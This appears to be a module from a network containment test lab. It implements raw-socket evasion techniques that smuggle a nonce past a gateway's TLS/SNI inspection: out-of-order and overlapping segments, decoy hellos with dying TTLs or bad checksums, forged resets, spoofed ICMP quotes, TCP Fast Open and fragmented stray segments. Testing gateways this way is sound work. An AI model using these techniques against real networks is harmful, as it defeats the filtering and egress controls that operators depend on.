"""Attempts with TCP segments: out of order, overlapping, with a TTL that expires on the way, or without a connection.

The kernel opens the connection; its sequence numbers are read from the wire, and later segments are made by hand over raw sockets.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Iterator
from dataclasses import dataclass

from containment_lab.attacks.client_hello import build_client_hello
from containment_lab.attacks.raw_ip import ACK, MORE, PSH, RST, build_packet, build_segment, compute_checksum, send_packets
from containment_lab.attacks.task import Attempt, Technique, close_after_delivery

_IPV4 = 0x0800
_NO_COOKIE = 34
"""TCP_FASTOPEN_NO_COOKIE (linux/tcp.h): send data in the first packet, even without a cookie."""
_DIES = 2
"""A TTL that ends at the gateway, two hops away."""
_SPLIT = 90
"""An offset after the session id (with the nonce) and inside the server name."""


@dataclass
class _OpenConnection:
    """An open connection: its ends and its next sequence numbers."""

    ends: tuple[str, int, str, int]
    seq: int
    ack: int

    def send(self, at: int, data: bytes, flags: int = PSH | ACK, *, ttl: int = 64, spoil: bool = False) -> None:
        """Send a segment.

        Args:
            at: Its offset from the next byte of the stream.
            data: The payload.
            flags: TCP flags.
            ttl: Time to live.
            spoil: Whether the checksum is wrong.
        """
        send_packets(
            self.ends[2],
            build_packet(self.ends[2], 6, build_segment(self.ends, self.seq + at, self.ack, data, flags, spoil=spoil), ttl=ttl),
        )


@contextlib.contextmanager
def _open_connection(attempt: Attempt, port: int) -> Iterator[_OpenConnection]:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_IPV4)) as wire:
        wire.settimeout(attempt.timeout)
        with close_after_delivery(attempt.connect(port)) as handle:
            ends = (*handle.getsockname()[:2], *handle.getpeername()[:2])
            while True:
                data = wire.recv(65536)
                tcp = data[(data[0] & 15) * 4 :]
                if data[9] == 6 and tcp[13] & 0x12 == 0x12 and struct.unpack("!HH", tcp[:4]) == (port, ends[1]):
                    break
            seq, ack = struct.unpack_from("!II", tcp, 4)
            yield _OpenConnection(ends, ack, seq + 1)


def send_segments(attempt: Attempt) -> None:
    """Send a client hello for `sni` with the nonce, in segments as set by `how`; a `decoy` is another hello, without the nonce."""
    how, sni = attempt.get_option("how"), attempt.get_option("sni").encode()
    attempt.marks.append(sni.decode().lower())
    real = build_client_hello(attempt.nonce.encode(), [sni])
    decoy = build_client_hello(b"-" * len(attempt.nonce), [attempt.get_option("decoy").encode()])
    with _open_connection(attempt, attempt.parse_number("port", 443)) as flow:
        if how == "reversed":
            flow.send(_SPLIT + 30, real[_SPLIT + 30 :])
            flow.send(_SPLIT, real[_SPLIT : _SPLIT + 30])
        elif how == "overlapping":
            flow.send(_SPLIT, decoy[_SPLIT:])
        elif how == "repeated":
            flow.send(_SPLIT, real[_SPLIT:])
            flow.send(_SPLIT - 20, real[_SPLIT - 20 : _SPLIT + 40])
        elif how == "dying-decoy":
            flow.send(0, decoy, ttl=_DIES)
        elif how == "spoilt-decoy":
            flow.send(0, decoy, spoil=True)
        elif how == "old-decoy":
            flow.send(-len(decoy), decoy)
        elif how == "dying-reset":
            flow.send(0, b"", RST | ACK, ttl=_DIES)
        elif how == "wrong-reset":
            flow.send(1 << 20, b"", RST | ACK)
        if attempt.get_option("decoy"):
            time.sleep(0.3)
        flow.send(0, real if how not in ("reversed", "repeated") else real[:_SPLIT])


def send_icmp_quote(attempt: Attempt) -> None:
    """Open a connection, and send an ICMP error with the nonce that quotes a segment which was never received."""
    attempt.marks.append(attempt.get_option("sni").lower())
    with _open_connection(attempt, attempt.parse_number("port", 443)) as flow:
        flow.send(0, build_client_hello(b"", [attempt.get_option("sni").encode()]))
        source, sport, where, port = flow.ends
        never = build_packet(
            source, 6, build_segment((where, port, source, sport), flow.ack, flow.seq, attempt.nonce.encode()), source=where, number=9
        )
        body = never[:10] + struct.pack("!H", compute_checksum(never[:20])) + never[12:]
        head = struct.pack("!BBHI", 3, 3, 0, 0)
        error = head[:2] + struct.pack("!H", compute_checksum(head + body)) + head[4:] + body
        for number in (0x7003, 0x7004):
            send_packets(where, build_packet(where, 1, error, number=number))
            time.sleep(0.2)


def send_in_syn(attempt: Attempt) -> None:
    """Send a client hello with the nonce in the first packet of a connection (TCP Fast Open)."""
    sni, port = attempt.get_option("sni"), attempt.parse_number("port", 443)
    attempt.marks.append(sni.lower())
    where = attempt.resolve_target()
    handle = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    handle.settimeout(attempt.timeout)
    handle.setsockopt(socket.IPPROTO_TCP, _NO_COOKIE, 1)
    handle.bind(("", 0))
    attempt.ports.append(int(handle.getsockname()[1]))
    with close_after_delivery(handle):
        handle.sendto(build_client_hello(attempt.nonce.encode(), [sni.encode()]), socket.MSG_FASTOPEN, (where, port))
        handle.recv(4096)


def send_stray_segment(attempt: Attempt) -> None:
    """Send a segment with the nonce that belongs to no connection; `fragments`: in fragments of eight bytes."""
    where, port = attempt.resolve_target(), attempt.parse_number("port", 8443)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.connect((where, port))
        ends = (str(handle.getsockname()[0]), 30000 + int(attempt.address.rpartition(".")[2]), where, port)
    data = build_segment(ends, 1000, 1, attempt.nonce.encode(), attempt.parse_number("flags", PSH | ACK))
    size = 8 if "fragments" in attempt.options else 1 << 16
    for number in (0x7001, 0x7002):
        pieces = [(at, data[at : at + size]) for at in range(0, len(data), size)]
        flags = [(0 if at + size >= len(data) else MORE) | at // 8 for at, _ in pieces]
        send_packets(
            where, *(build_packet(where, 6, piece, number=number, flags=flag) for (_, piece), flag in zip(pieces, flags, strict=True))
        )
        time.sleep(0.2)


def send_urgent_data(attempt: Attempt) -> None:
    """Send a client hello for `sni`, and the nonce as urgent data."""
    attempt.marks.append(attempt.get_option("sni").lower())
    with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
        handle.send(attempt.nonce.encode(), socket.MSG_OOB)
        handle.sendall(build_client_hello(attempt.nonce.encode(), [attempt.get_option("sni").encode()]))
        time.sleep(2.5)  # longer than a gateway waits for a flow's first bytes


TECHNIQUES: dict[str, Technique] = {
    "segments": send_segments,
    "in-syn": send_in_syn,
    "quoted": send_icmp_quote,
    "stray": send_stray_segment,
    "urgent": send_urgent_data,
}
